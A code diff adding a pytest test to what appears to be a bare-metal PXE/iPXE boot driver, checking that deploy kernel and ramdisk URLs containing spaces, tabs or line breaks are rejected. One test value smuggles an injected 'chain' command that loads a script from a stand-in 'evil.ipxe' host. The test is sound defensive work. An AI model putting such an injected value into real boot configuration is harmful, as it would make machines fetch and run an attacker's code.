@@ -95,3 +95,21 @@ def test_a_mac_now_another_nodes_keeps_that_nodes_script(root):
     assert UUID_B in (root / "pxelinux.cfg" / "52-54-00-12-34-56").read_text()
     boot.clean_up_ramdisk(task_b)
     assert _scripts(root) == []
+
+
+@pytest.mark.parametrize("field, value", [
+    ("deploy_kernel", "http://images/deploy kernel"),
+    ("deploy_ramdisk", "http://images/r\nchain http://192.0.2.66/evil.ipxe"),
+    ("deploy_ramdisk", "http://images/r\t"),
+])
+def test_a_deploy_file_with_a_space_or_line_break_is_refused_naming_the_field(
+        root, field, value):
+    """In the script a space ended the URL and a line break started a command."""
+    from hwdrivers.common import exception
+
+    task = _task(UUID_A, OLD)
+    task.node.driver_info[field] = value
+    with pytest.raises(exception.InvalidParameterValue) as caught:
+        ipxe.IPXEBoot().validate(task)
+    assert field in str(caught.value)
+    assert "percent-encode" in str(caught.value)
